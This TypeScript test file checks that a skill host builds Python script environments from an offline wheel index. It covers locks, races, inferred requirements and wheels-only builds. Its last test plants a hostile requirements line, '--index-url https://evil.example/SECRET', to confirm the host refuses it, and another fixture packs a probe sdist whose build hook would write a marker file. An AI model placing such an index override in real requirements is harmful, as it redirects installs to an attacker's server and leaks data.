import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { hostname, tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { setCallProgressScope } from '../../../src/common/call-progress.js'
import { personText, SkillHostError } from '../../../src/common/errors.js'
import { createSkillManager } from '../../../src/manager/create-skill-manager.js'
import {
  createScriptSandbox,
  type ProvisionBuild,
  type ScriptSandbox,
  scriptInterpreters,
} from '../../../src/tiers/scripts/index.js'
import { runSkillScript } from '../../../src/tiers/scripts/internal.js'
import { memorySource } from '../../helpers/manager-fixtures.js'
import { buildProbeWheel, probePep723 } from '../../helpers/probe-wheel.js'
import { files, onLinux, script } from '../../helpers/sandbox.js'
import { cacheWithInstaller } from '../../helpers/shared-installer.js'

const PYTHON = scriptInterpreters().python3?.[0]

const PEP723 = probePep723(
  'import sys, skillhost_probe_pkg',
  'print(skillhost_probe_pkg.VALUE, sys.prefix)',
)

async function run(sandbox: ScriptSandbox, body: Record<string, string>, path = 'p.py') {
  const { workspace } = sandbox.config
  const root = await workspace.materialize({ id: 'deps', version: '1' }, files(body))
  try {
    return await runSkillScript(sandbox.config, {
      skill: 'deps',
      root,
      script: script({ path, interpreter: 'python3' }),
      args: {},
    })
  } finally {
    await workspace.dispose(root)
  }
}

describe.skipIf(!onLinux || PYTHON === undefined)(
  'script environments from an offline index (issue 23 part 2)',
  () => {
    let dir: string
    let cacheDir: string
    let plain: ScriptSandbox
    let provisioned: ScriptSandbox
    const builds: ProvisionBuild[] = []
    beforeAll(async () => {
      dir = mkdtempSync(join(tmpdir(), 'skillhost-provision-'))
      const wheels = join(dir, 'wheels')
      execFileSync('mkdir', [wheels])
      buildProbeWheel(PYTHON as string, wheels)
      // Every cache of this file starts with the run's pip installer: its subjects are the
      // sets' builds; the installer's own are provision-installer.test.ts's.
      cacheDir = await cacheWithInstaller(join(dir, 'envs'), PYTHON as string)
      plain = await createScriptSandbox()
      provisioned = await createScriptSandbox({
        provision: { cacheDir, index: { findLinks: wheels }, onBuild: (e) => builds.push(e) },
      })
    }, 120_000)
    afterAll(async () => {
      await plain?.dispose()
      await provisioned?.dispose()
      rmSync(dir, { recursive: true, force: true })
    }, 120_000)

    it('without provisioning, a PEP 723 script missing its package is a typed error naming it', async () => {
      let err: unknown
      await run(plain, { 'p.py': PEP723 }).catch((e) => {
        err = e
      })
      expect(SkillHostError.is(err, 'E_SKILL_SCRIPT_DEPS_MISSING')).toBe(true)
      expect((err as SkillHostError).message).toContain('skillhost-probe-pkg')
      expect((err as SkillHostError).message).toContain('skillhost env')
      expect((err as SkillHostError).data).toEqual({ packages: ['skillhost-probe-pkg'] })
    })

    it('a build lock left by a killed builder does not stall the next builds; racing builders share one env', async () => {
      const { describePython } = await import('../../../src/tiers/scripts/policy/user-python.js')
      const { envKey } = await import('../../../src/tiers/scripts/deps/provision-env.js')
      const { provisionedInterpreter } = await import(
        '../../../src/tiers/scripts/deps/script-env.js'
      )
      const { parseRequirement } = await import('../../../src/tiers/scripts/deps/requirement.js')
      const requirements = [parseRequirement('skillhost-probe-pkg', 'test')]
      const staleCache = await cacheWithInstaller(join(dir, 'envs-stale'), PYTHON as string)
      // What a builder killed mid-build leaves: its lock, naming a process that is gone.
      const lock = join(
        staleCache,
        `${envKey(describePython(PYTHON as string)!, requirements)}.lock`,
      )
      const gone = Number(
        execFileSync('sh', ['-c', 'sh -c "echo \\$\\$" & wait'], { encoding: 'utf8' }),
      )
      execFileSync('mkdir', [lock])
      writeFileSync(join(lock, 'owner.json'), JSON.stringify({ pid: gone, host: hostname() }))
      const options = { cacheDir: staleCache, index: { findLinks: join(dir, 'wheels') } }
      // Three builders at once; each would wait out the build timeout (10 minutes) behind a stale lock.
      const built = await Promise.all(
        [1, 2, 3].map(() => provisionedInterpreter(PYTHON as string, requirements, options)),
      )
      const keys = new Set(built.map((b) => b?.env.key))
      expect(keys.size).toBe(1)
      expect(
        built.every((b) => b?.env.packages.some((p) => p.name === 'skillhost-probe-pkg')),
      ).toBe(true)
      // One environment and the cache's installer, no lock and no build folder left behind.
      expect(readdirSync(staleCache).sort()).toEqual([...keys, 'installer'].sort())
    }, 120_000)

    it('sessions whose first calls for a fresh set race build it once, then all reuse it (issue 39 item 2)', async () => {
      const { provisionedInterpreter } = await import(
        '../../../src/tiers/scripts/deps/script-env.js'
      )
      const { parseRequirement } = await import('../../../src/tiers/scripts/deps/requirement.js')
      const requirements = [parseRequirement('skillhost-probe-pkg', 'test')]
      const raceCache = await cacheWithInstaller(join(dir, 'envs-race'), PYTHON as string)
      // Four sessions, each with its own options and listener, as four served sessions have.
      const SESSIONS = 4
      const started: number[] = Array.from({ length: SESSIONS }, () => 0)
      const optionsOf = (i: number) => ({
        cacheDir: raceCache,
        index: { findLinks: join(dir, 'wheels') },
        onBuild: (e: ProvisionBuild) => {
          if (e.phase === 'started') started[i]! += 1
        },
      })
      const built = await Promise.all(
        started.map((_, i) => provisionedInterpreter(PYTHON as string, requirements, optionsOf(i))),
      )
      expect(built.filter((b) => b !== undefined)).toHaveLength(SESSIONS)
      expect(new Set(built.map((b) => b?.env.key)).size).toBe(1)
      expect(started.reduce((a, b) => a + b, 0)).toBe(1)
      // Later calls, in any session, find it built: no build starts again.
      for (let i = 0; i < SESSIONS; i++)
        await provisionedInterpreter(PYTHON as string, requirements, optionsOf(i))
      expect(started.reduce((a, b) => a + b, 0)).toBe(1)
      expect(readdirSync(raceCache).sort()).toEqual([built[0]!.env.key, 'installer'].sort())
    }, 180_000)

    it('with provisioning, the script runs in an env built once and seen at a neutral path', async () => {
      const before = builds.length
      const r = await run(provisioned, { 'p.py': PEP723 })
      expect(r.stderr).toBe('')
      expect(r.stdout).toBe('from-the-wheel /opt/skillhost/env\n')
      // The same set from requirements.txt reuses the env: one folder in the cache.
      const again = await run(
        provisioned,
        {
          'q.py': 'import skillhost_probe_pkg as p\nprint(p.VALUE)\n',
          'requirements.txt': '# deps\nskillhost_probe_pkg >= 1\n',
        },
        'q.py',
      )
      expect(again.stdout).toBe('from-the-wheel\n')
      const envs = readdirSync(cacheDir).filter((n) => !n.startsWith('.') && n !== 'installer')
      expect(envs).toHaveLength(1)
      // Told of the one build, start and end; the cached second call builds nothing.
      expect(builds.slice(before).map((b) => [b.phase, b.requirements])).toEqual([
        ['started', ['skillhost-probe-pkg>=1']],
        ['built', ['skillhost-probe-pkg>=1']],
      ])
      expect(builds[before + 1]?.ms).toBeGreaterThanOrEqual(0)
    }, 120_000)

    it('loading a skill starts its environment building; a call arriving mid-build waits for that build (issue 39 item 2)', async () => {
      const warmCache = await cacheWithInstaller(join(dir, 'envs-warm'), PYTHON as string)
      const heard: ProvisionBuild[] = []
      let startedNow: () => void = () => undefined
      const started = new Promise<void>((resolve) => {
        startedNow = resolve
      })
      const sandbox = await createScriptSandbox({
        provision: {
          cacheDir: warmCache,
          index: { findLinks: join(dir, 'wheels') },
          onBuild: (e) => {
            heard.push(e)
            if (e.phase === 'started') startedNow()
          },
        },
      })
      const skill = {
        name: 'warm',
        description: 'A script with requirements.',
        body: '# Warm\n',
        files: { 'p.py': PEP723 },
        scripts: [
          { name: 'p', path: 'p.py', description: 'Needs a package.', interpreter: 'python3' },
        ],
      }
      try {
        await using manager = await createSkillManager({
          sources: [memorySource([skill])],
          gate: async () => undefined,
          scripts: sandbox.config,
        })
        const ctx = manager.createTurnContext()
        await manager.load('warm', ctx)
        // No call yet: the load alone started the build.
        await started
        expect(heard.map((e) => e.phase)).toEqual(['started'])
        // Called while it builds: the call waits for that build and runs in its environment,
        // and tells its client why it waits, as the call that builds would.
        const told: (string | undefined)[] = []
        let inCall = false
        setCallProgressScope({
          current: () => (inCall ? (m: string | undefined) => void told.push(m) : undefined),
        })
        inCall = true
        const out = String(await ctx.tools.get('run_warm_p')!.execute({}, ctx))
        inCall = false
        setCallProgressScope({ current: () => undefined })
        expect(out).toContain('from-the-wheel')
        expect(told[0]).toBe('building a python environment')
        expect(told.at(-1)).toBeUndefined()
        expect(heard.filter((e) => e.phase === 'started')).toHaveLength(1)
        expect(heard.filter((e) => e.phase === 'built')).toHaveLength(1)
        const kept = readdirSync(warmCache).filter((f) => !f.startsWith('.'))
        expect(kept.filter((f) => f !== 'installer')).toHaveLength(1)
      } finally {
        // After the manager (disposed as this block ends), which owns the build.
        await sandbox.dispose()
      }
    }, 180_000)

    it('the load result names what a script with requirements runs with: the env’s python when provisioned', async () => {
      const skill = {
        name: 'needs',
        description: 'Scripts with and without requirements.',
        body: '# Needs\n',
        files: { 'p.py': PEP723, 'q.py': 'print(1)\n' },
        scripts: [
          { name: 'p', path: 'p.py', description: 'Needs a package.', interpreter: 'python3' },
          { name: 'q', path: 'q.py', description: 'Needs nothing.', interpreter: 'python3' },
        ],
      }
      const interpretersWith = async (sandbox: ScriptSandbox) => {
        await using manager = await createSkillManager({
          sources: [memorySource([skill])],
          gate: async () => undefined,
          scripts: sandbox.config,
        })
        return (await manager.load('needs', manager.createTurnContext())).interpreters
      }
      const base = (await interpretersWith(plain))!.find((i) => i.tool === 'run_needs_q')!
      expect(base.requires).toBeUndefined()
      expect(await interpretersWith(provisioned)).toEqual([
        {
          ...base,
          tool: 'run_needs_p',
          program: '/opt/skillhost/env/bin/python3',
          requires: ['skillhost-probe-pkg>=1'],
        },
        base,
      ])
      // Without provisioning the base python is named, with what a call would refuse as missing.
      expect((await interpretersWith(plain))![0]).toEqual({
        ...base,
        tool: 'run_needs_p',
        requires: ['skillhost-probe-pkg>=1'],
      })
    })

    it('a skill that declares nothing (as public skills ship) gets the packages its scripts import at module level', async () => {
      // Shaped like a public skill: scripts/ with a helper module and a local
      // package, no PEP 723 block, no requirements.txt, no pip line in SKILL.md.
      const body = {
        'SKILL.md': '# Forms\n\nRun `python scripts/fill.py`.\n',
        'scripts/fill.py': [
          '"""Fill a form.',
          'import not_a_package_in_a_docstring',
          '"""',
          'import json, sys',
          'from helpers import read_fields',
          'from kit.inner import VALUE',
          'try:',
          '    import optional_accelerator',
          'except ImportError:',
          '    pass',
          'print(read_fields(), VALUE, sys.prefix)',
        ].join('\n'),
        'scripts/helpers.py':
          'import skillhost_probe_pkg\ndef read_fields():\n    return skillhost_probe_pkg.VALUE\n',
        'scripts/kit/__init__.py': '',
        'scripts/kit/inner.py': 'from .deeper import VALUE\n',
        'scripts/kit/deeper.py': 'import os.path\nVALUE = "local"\n',
      }
      const { scriptRequirementsOf } = await import(
        '../../../src/tiers/scripts/deps/script-requirements.js'
      )
      const root = mkdtempSync(join(dir, 'skill-'))
      for (const [path, text] of Object.entries(body)) {
        execFileSync('mkdir', ['-p', join(root, path, '..')])
        writeFileSync(join(root, path), text)
      }
      expect(await scriptRequirementsOf(root, 'scripts/fill.py')).toEqual({
        requirements: [{ name: 'skillhost-probe-pkg', text: 'skillhost-probe-pkg' }],
        inferred: true,
      })
      // Provisioned: the env is built from the inferred set and the script runs in it.
      const r = await run(provisioned, body, 'scripts/fill.py')
      expect(r.stderr).toBe('')
      expect(r.stdout).toBe('from-the-wheel local /opt/skillhost/env\n')
      // Not provisioned: an inferred set is not checked; the script runs as before, its ImportError its own.
      const plainRun = await run(plain, body, 'scripts/fill.py')
      expect(plainRun.exitCode).not.toBe(0)
      expect(plainRun.stderr).toContain("No module named 'skillhost_probe_pkg'")
      // Anything declared wins over inference: an empty requirements.txt declares nothing to install.
      writeFileSync(join(root, 'requirements.txt'), '# nothing\n')
      expect(await scriptRequirementsOf(root, 'scripts/fill.py')).toEqual({
        requirements: [],
        inferred: false,
      })
    }, 120_000)

    it('builds from wheels only: a source distribution a skill names never runs its setup on the host', async () => {
      // An offline index holding only an sdist whose in-tree build backend (no build
      // requirements, so nothing to fetch) would leave a marker on the host when pip builds it.
      const sdists = join(dir, 'sdists')
      const marker = join(dir, 'build-ran')
      execFileSync('mkdir', [sdists])
      const code = [
        'import io, sys, tarfile',
        'root = "skillhost-sdist-probe-1.0.0/"',
        'files = {',
        '  "pyproject.toml": "[build-system]\\nrequires = []\\nbuild-backend = \'backend\'\\nbackend-path = [\'.\']\\n",',
        '  "backend.py": f"open({sys.argv[2]!r}, \'w\').write(\'ran\')\\n",',
        '  "PKG-INFO": "Metadata-Version: 2.1\\nName: skillhost-sdist-probe\\nVersion: 1.0.0\\n",',
        '}',
        'with tarfile.open(sys.argv[1] + "/skillhost_sdist_probe-1.0.0.tar.gz", "w:gz") as t:',
        '  for name, text in files.items():',
        '    data = text.encode(); info = tarfile.TarInfo(root + name); info.size = len(data)',
        '    t.addfile(info, io.BytesIO(data))',
      ].join('\n')
      execFileSync(PYTHON as string, ['-c', code, sdists, marker])
      const sandbox = await createScriptSandbox({
        provision: {
          cacheDir: await cacheWithInstaller(join(dir, 'envs-sdist'), PYTHON as string),
          index: { findLinks: sdists },
        },
      })
      try {
        let err: unknown
        await run(sandbox, {
          'p.py': '# /// script\n# dependencies = ["skillhost-sdist-probe"]\n# ///\nprint(1)\n',
        }).catch((e) => {
          err = e
        })
        // Wheels only: pip finds no wheel of it, says so, and builds nothing.
        expect(SkillHostError.is(err, 'E_SKILL_ENV_BUILD_FAILED')).toBe(true)
        expect(personText(err)).toContain("pip found no wheel of 'skillhost-sdist-probe'")
        expect(existsSync(marker)).toBe(false)
      } finally {
        await sandbox.dispose()
      }
    }, 120_000)

    it('a hostile requirement is refused by line number before anything runs', async () => {
      let err: unknown
      await run(
        provisioned,
        {
          'q.py': 'print(1)\n',
          'requirements.txt': 'ok-package\n--index-url https://evil.example/SECRET\n',
        },
        'q.py',
      ).catch((e) => {
        err = e
      })
      expect(SkillHostError.is(err, 'E_SKILL_REQUIREMENTS_INVALID')).toBe(true)
      expect((err as Error).message).toBe('requirements.txt line 2: pip options are not accepted.')
    })
  },
)
